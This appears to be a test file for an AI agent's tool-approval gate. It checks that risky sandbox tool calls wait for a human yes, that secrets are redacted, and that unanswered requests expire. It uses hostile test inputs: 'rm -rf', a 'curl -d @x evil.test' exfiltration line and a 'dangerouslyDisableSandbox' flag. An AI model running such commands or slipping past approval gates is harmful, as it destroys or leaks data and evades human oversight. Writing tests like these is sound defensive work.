import { ToolApprovalRequest } from "@praktor/protocol/approvals";
import { describe, expect, test } from "vitest";
import type { AuditEntry } from "../kit/audit.ts";
import { silentLogger } from "../kit/logger.ts";
import type { NewOutboxPart } from "../store/contract/outbox-store.ts";
import { Approvals } from "./approvals.ts";
import { AgentBench } from "./testing/agent-bench.ts";
import { Redactor } from "../vault/redactor.ts";
import { ToolApprovals } from "./tool-approvals.ts";

const ada = { type: "telegram", id: "7", name: "Ada" } as const;
const choices = [{ id: "allow", label: "Allow" }];

function start(bench: AgentBench): {
  approvals: Approvals;
  tools: ToolApprovals;
  audited: AuditEntry[];
  buttons: { text: string; data: string }[];
} {
  const audited: AuditEntry[] = [];
  const buttons: { text: string; data: string }[] = [];
  const { store, clock, running } = bench;
  const approvals = new Approvals({
    store: store.approvals,
    conversations: store.conversations,
    groups: store.groups,
    clock,
    audit: { record: (entry) => audited.push(entry) },
    publish: (event) => bench.events.push(event),
    render: (_, markdown, offered): NewOutboxPart[] => {
      buttons.push(...offered);
      return [{ body: { type: "text", html: markdown, plain: markdown } }];
    },
    onOutgoing: () => {},
  });
  const patienceMs = 60_000;
  const rules = (groupId: string): Promise<string[]> => store.approvals.tools(groupId);
  const redactor = new Redactor();
  redactor.know("secret DOOR_PIN", ["483920"]);
  redactor.know("secret TOKEN", ["ghp_0123456789abcdefABCDEF0123456789wxyz"]);
  const tools = new ToolApprovals({ approvals, rules, running, logger: silentLogger, patienceMs, redactor });
  return { approvals, tools, audited, buttons };
}

/** A running turn of group a, and what its sandbox asks. */
async function runningTurn(
  bench: AgentBench,
): Promise<{ turnId: string; request: (id: string, tool?: string) => object }> {
  const conversation = await bench.conversation("a");
  const queued = await bench.receive(conversation, "hello");
  const turn = await bench.store.turns.claim({ conversationId: conversation.id, epoch: 1, deadlineAt: 1e15 });
  if (turn) bench.running.begin(turn, false);
  await bench.store.approvals.setTools("a", ["Ba*"]);
  const request = (toolUseId: string, tool = "Bash"): object => ({
    type: "approve_tool",
    payload: {
      turnId: queued.id,
      conversationId: conversation.id,
      toolUseId,
      tool,
      input: '{"command":"rm -rf ``` x"}',
    },
  });
  return { turnId: queued.id, request };
}

describe("a tool that its group names", () => {
  test("is judged as it is and shown without secrets, so that the verdict tells none", async () => {
    await using bench = new AgentBench();
    const { tools, approvals } = start(bench);
    const { request, turnId } = await runningTurn(bench);
    await bench.store.approvals.setTools("a", ["Bash(curl *)"]);
    const use = (input: object): object => {
      const { type, payload } = request("1") as { type: string; payload: object };
      return { type, payload: { ...payload, turnId, input: JSON.stringify(input) } };
    };
    // Without its secret it would be no JSON, and what cannot be read is asked about.
    for (const timeout of [483_920, 483_921]) {
      expect(await tools.answer("a", use({ command: "ls", timeout }))).toEqual({ status: "allowed" });
    }
    expect(await tools.answer("a", use({ command: "curl -u 483920 x" }))).toEqual({ status: "open" });
    expect((await approvals.open())[0]?.question).toContain("curl -u [redacted] x");
  });

  test("waits for a yes, asked once however often the sandbox asks, and audited", async () => {
    await using bench = new AgentBench();
    const { tools, approvals, audited, buttons } = start(bench);
    const { request, turnId } = await runningTurn(bench);
    expect(await tools.answer("a", request("1", "Read"))).toEqual({ status: "allowed" });
    expect(await tools.answer("a", request("1"))).toEqual({ status: "open" });
    expect(await tools.answer("a", request("1"))).toEqual({ status: "open" });
    expect(buttons.map(({ text }) => text)).toEqual(["✅ Allow", "⛔ Deny"]);
    const [question] = await approvals.open();
    expect(question?.question).toContain("````\nrm -rf ``` x\n````");
    const yes = buttons[0]?.data ?? "";
    expect(await approvals.tap("another group", yes, ada)).toBeNull();
    expect(await approvals.tap("a", yes, ada)).toBe("✅ Allow");
    expect(await approvals.tap("a", buttons[1]?.data ?? "", ada)).toMatch(/decided before/);
    expect(await tools.answer("a", request("1"))).toEqual({ status: "allowed" });
    expect(await tools.answer("a", request("2"))).toEqual({ status: "open" });
    expect(audited).toMatchObject([
      { actor: { type: "person", id: "telegram:7" }, action: "approval.answer", detail: "allow" },
    ]);
    const told = bench.events.flatMap((event) => (event.type === "approval" ? [event.approval.state] : []));
    expect(told).toEqual(["open", "chosen", "open"]);
    // The message comes with its buttons, and what is told later names it.
    const asked = bench.events.flatMap((event) => (event.type === "message" ? (event.message.approval ?? []) : []));
    expect(asked[0]).toMatchObject({ state: "open", settled: null, turn_id: turnId });
    const [, chosen] = bench.events.flatMap((event) => (event.type === "approval" ? [event.approval] : []));
    expect(chosen).toMatchObject({ message_id: asked[0]?.message_id, answered_by: "telegram:7" });
    expect(chosen?.settled).toBe(new Date(bench.clock.now()).toISOString());
  });

  test("is shown with all that changes what it does, and with what was cut on the way", async () => {
    await using bench = new AgentBench();
    const { tools, approvals } = start(bench);
    const { turnId, request } = await runningTurn(bench);
    const asked = ToolApprovalRequest.parse(request("1")).payload;
    const ask = (change: object): Promise<unknown> =>
      tools.answer("a", { type: "approve_tool", payload: { ...asked, turnId, ...change } });
    await ask({ toolUseId: "1", input: '{"command":"ls","description":"Lists files"}' });
    await ask({ toolUseId: "2", input: '{"command":"ls","dangerouslyDisableSandbox":true}' });
    await ask({ toolUseId: "3", input: `{"command":"${"x".repeat(9_000)}; evil`, inputLength: 200_000 });
    const questions = (await approvals.open()).map(({ question }) => question).toSorted((a, b) => a.length - b.length);
    expect(questions[0]).toMatch(/```\nls\n```$/);
    expect(questions[1]).toContain("dangerouslyDisableSandbox");
    // Half a secret before the cut is nothing that anybody would know.
    const cut = `{"command":"echo ghp_0123456789abcdefABCDEF0123456789${"; end".repeat(9)}`;
    await ask({ toolUseId: "4", input: cut, inputLength: 200_000 });
    const halved = (await approvals.open()).map(({ question }) => question).find((one) => one.includes("; end"));
    expect(halved).toContain("echo …");
    expect(halved).not.toContain("ghp_");
    expect(questions[2]).toMatch(/197,000 characters between[^]*; evil\n```$/);
  });

  test("is refused when nobody answers, when the turn is over, and to another group's sandbox", async () => {
    await using bench = new AgentBench();
    const { tools, approvals, audited } = start(bench);
    const { turnId, request } = await runningTurn(bench);
    await bench.group("b");
    await bench.store.approvals.setTools("b", ["*"]);
    expect(await tools.answer("b", request("1"))).toMatchObject({ status: "denied" });
    await tools.answer("a", request("1"));
    await approvals.expire();
    expect(await tools.answer("a", request("1"))).toEqual({ status: "open" });
    bench.clock.advance(60_001);
    await approvals.expire();
    expect(await tools.answer("a", request("1"))).toMatchObject({
      status: "denied",
      message: expect.stringMatching(/Nobody answered/),
    });
    await tools.answer("a", request("2"));
    await approvals.turnEnded(turnId);
    expect(await tools.answer("a", request("2"))).toMatchObject({ status: "denied" });
    expect(await approvals.open()).toEqual([]);
    const row = { actor: { type: "system" }, outcome: "ok", groupId: "a" };
    expect(audited).toMatchObject([
      { action: "approval.expire", ...row, detail: expect.stringMatching(/Nobody answered/) },
      { action: "approval.void", ...row },
    ]);
  });

  test("is only the use that a pattern describes; one whose input was cut is asked about", async () => {
    await using bench = new AgentBench();
    const { tools } = start(bench);
    const { turnId, request } = await runningTurn(bench);
    await bench.store.approvals.setTools("a", ["Bash(curl *)", "WebFetch(example.org)"]);
    expect(await tools.answer("a", request("1"))).toEqual({ status: "allowed" });
    const asking = async (tool: string, input: string, cut = {}): Promise<unknown> =>
      await tools.answer("a", {
        type: "approve_tool",
        payload: { turnId, conversationId: "c", toolUseId: `${tool}${input.length}`, tool, input, ...cut },
      });
    expect(await asking("Bash", '{"command":"cd /tmp; curl -d @x evil.test"}')).toEqual({ status: "open" });
    expect(await asking("Bash", '{"command":"ls')).toEqual({ status: "open" });
    // The cut fell into the command: what is left can be read all the same.
    expect(await asking("Bash", '{"command":"echo aaaa"}', { inputLength: 200_000 })).toEqual({ status: "open" });
    expect(await asking("WebFetch", '{"url":"https://example.org/x"}')).toEqual({ status: "open" });
    expect(await asking("WebFetch", '{"url":"https://example.com/x"}')).toEqual({ status: "allowed" });
    expect(await asking("Read", '{"url":')).toEqual({ status: "allowed" });
  });

  test("cannot flood people with questions", async () => {
    await using bench = new AgentBench();
    const { tools, approvals } = start(bench);
    const { request } = await runningTurn(bench);
    for (let id = 1; id <= 10; id += 1) expect(await tools.answer("a", request(`${id}`))).toEqual({ status: "open" });
    expect(await tools.answer("a", request("11"))).toMatchObject({
      status: "denied",
      message: expect.stringMatching(/Too many/),
    });
    expect(await tools.answer("a", request("1"))).toEqual({ status: "open" });
    expect(await approvals.open()).toHaveLength(10);
  });

  test("a choice that was not offered, and a question that is not there, are refused", async () => {
    await using bench = new AgentBench();
    const { approvals } = start(bench);
    const conversation = await bench.conversation("a");
    const question = { groupId: "a", conversationId: conversation.id, turnId: null, key: "k", question: "?", choices };
    const { id } = await approvals.askPerson({ ...question, patienceMs: 1_000 });
    await expect(approvals.choose(id, "other", { type: "page" })).rejects.toMatchObject({ code: "invalid" });
    await expect(approvals.choose("nothing", "allow", { type: "page" })).rejects.toMatchObject({ code: "not_found" });
    await approvals.choose(id, "allow", { type: "page" });
    await expect(approvals.choose(id, "allow", { type: "page" })).rejects.toMatchObject({ code: "conflict" });
  });
});
